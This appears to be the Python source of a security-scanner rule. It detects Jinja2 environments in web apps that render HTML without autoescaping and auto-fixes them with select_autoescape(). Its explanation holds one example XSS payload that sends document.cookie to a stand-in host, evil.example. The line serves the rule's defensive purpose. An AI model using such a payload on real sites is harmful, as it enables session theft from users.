"""PY-XSS-002 jinja2-autoescape-off: a Jinja2 environment that renders HTML without escaping.

**What it finds.** `jinja2.Environment(...)` created without `autoescape`, or
with `autoescape=False`, in a module of a web application (one that imports
Flask, Django, FastAPI/Starlette, aiohttp, Tornado, Bottle, Sanic, Quart or
Pyramid). Jinja2's own default is *no* escaping: Flask turns it on for the
environment it creates, but an environment an assistant builds by hand
(`Environment(loader=FileSystemLoader("templates"))`) renders every
`{{ name }}` as raw HTML.

**Not reported.** `autoescape=True`, `autoescape=select_autoescape(...)` or
any other non-constant value (a function deciding per template), environments
passed `**options`, and modules that are not web applications (Jinja2 also
generates code, configuration and e-mails in plain text, where escaping would
be wrong). Templates rendered by the framework (`render_template`,
Django/FastAPI template responses) escape by default and are not affected.

**Fix.** "Escape HTML templates" adds `autoescape=select_autoescape()` (or
replaces the `False`) and imports `select_autoescape`. Templates whose names
end in `.html`, `.htm` or `.xml` are then escaped; others (`.txt`, `.sql`)
render exactly as before. Benign values render the same in HTML too; markup
in a value shows as text instead of running. A template that deliberately
outputs HTML from a variable must mark it with `|safe` or `Markup`.
"""

from __future__ import annotations

from typing import Iterator

from tree_sitter import Node

from ....common.names import last_parts
from ....context import AnalysisContext
from ....model import Confidence, Edit, Finding, Fix, Severity
from ....python.arguments import add_keyword, has_splat, keyword_argument
from ....python.names import calls, imports_module
from ....python.sensitive import in_test_code
from ....python.strings import unwrap_parens
from ...base import Explanation, Rule, register

ENVIRONMENTS = frozenset({"jinja2.Environment", "jinja2.environment.Environment", "jinja2.sandbox.SandboxedEnvironment"})
WEB_MODULES = ("flask", "django", "fastapi", "starlette", "aiohttp", "tornado", "bottle", "sanic", "quart", "pyramid", "werkzeug")
SELECT = "select_autoescape()"


@register
class JinjaAutoescapeOff(Rule):
    id = "PY-XSS-002"
    name = "jinja2-autoescape-off"
    cwe = 79
    owasp = "A03:2021"
    severity = Severity.MEDIUM
    confidence = Confidence.MEDIUM
    languages = ("python",)
    fix_title = "Escape HTML templates"
    triggers = tuple(sorted(last_parts(ENVIRONMENTS)))
    summary = "Jinja2 Environment without autoescaping in a web application"
    explanation = Explanation(
        what="Templates from this Jinja2 environment insert values into HTML without escaping them.",
        why=(
            "Pages render correctly for every ordinary name, so nothing looks wrong. Jinja2 does not escape unless "
            "asked to (Flask asks for its own environment, a hand-made one does not), so any value that reaches a "
            "template from a request, a database row or an upload is interpreted as markup."
        ),
        hostile_input="A user named `<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>` steals the session of everyone who views their profile.",
        fix="Create the environment with `autoescape=select_autoescape()` (HTML and XML templates escaped, text templates unchanged).",
    )

    def check(self, ctx: AnalysisContext) -> Iterator[Finding]:
        if not imports_module(ctx, *WEB_MODULES):
            return
        for call, name in calls(ctx):
            if name not in ENVIRONMENTS or has_splat(call) or in_test_code(ctx, call):
                continue
            argument = keyword_argument(ctx, call, "autoescape")
            if argument is None:
                edit = add_keyword(ctx, call, f"autoescape={SELECT}")
                message = "Jinja2 Environment without autoescape: its HTML templates insert values unescaped"
            else:
                value = unwrap_parens(argument.child_by_field_name("value"))
                if value is None or value.type != "false":
                    continue
                edit = Edit(value.start_byte, value.end_byte, SELECT)
                message = "Jinja2 Environment with autoescape=False: its HTML templates insert values unescaped"
            fixes = (Fix("Escape HTML templates (autoescape=select_autoescape())", (edit,), imports=("from jinja2 import select_autoescape",)),) if edit else ()
            yield self.finding(ctx, call, message, fixes=fixes)
